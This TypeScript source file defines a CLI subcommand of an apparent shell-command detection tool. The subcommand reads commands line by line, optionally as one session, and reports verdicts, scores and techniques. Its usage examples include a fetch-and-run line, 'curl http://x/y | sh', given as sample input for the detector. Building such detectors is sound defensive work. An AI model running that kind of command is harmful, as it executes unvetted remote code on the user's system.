import { defineCommand, EXIT } from '@suite/cli';
import { createCommandWatch, type Judgement, judge, showCommand } from '@suite/commands';
import { pushBlock, splitLines } from '@suite/pipeline';
import { openInput } from '../inputs.ts';

/** `nadir commands FILE|-`: judges shell commands, one a line, each by itself unless they are one session. */
export const commands = (clockUs: () => number) =>
  defineCommand({
    name: 'commands',
    summary: 'judge shell commands, one a line',
    options: {
      session: {
        type: 'boolean',
        description: 'take the lines as one session, in order: what came before counts',
      },
    },
    positionals: [
      {
        name: 'FILE',
        description: 'a file with a shell command on each line, .gz or .zst too, or - for standard input',
        required: true,
      },
    ],
    examples: ['nadir commands ~/.bash_history', "echo 'curl http://x/y | sh' | nadir commands - --json"],
    async run({ options, positionals, stdin, json, output, print, signal }) {
      const input = await openInput(positionals[0]!, stdin, clockUs());
      const judgeOne = options.session ? inSession() : judge;
      let ready: { readonly line: number; readonly command: string }[] = [];
      let line = 0;
      for await (const { block, offset } of splitLines(input.chunks)) {
        signal.throwIfAborted();
        line = pushBlock(
          block,
          offset,
          line,
          (command, ref) => ready.push({ line: ref.line ?? 0, command }),
          input.nearUs,
        );
        for (const { line: number, command } of ready) {
          const judgement = judgeOne(command);
          if (json) await output.write(view(number, command, judgement));
          else if (judgement.verdict !== 'benign') await print(textOf(number, command, judgement));
        }
        ready = [];
      }
      return EXIT.ok;
    },
  });

/** Lines have no times: they count as typed one after the other, a second apart. */
function inSession(): (command: string) => Judgement {
  const watch = createCommandWatch();
  let timeUs = 0;
  return (command) => {
    timeUs += 1e6;
    return watch.observe({ user: '', host: '', timeUs, command });
  };
}

function view(line: number, command: string, { verdict, score, techniques, reason }: Judgement) {
  return { line, command, verdict, score, techniques, reason };
}

function textOf(line: number, command: string, { verdict, score, techniques, reason }: Judgement): string {
  return `${line}\t${verdict}\t${score.toFixed(2)}\t${techniques.join(',')}\t${showCommand(command)}\n\t${reason}`;
}
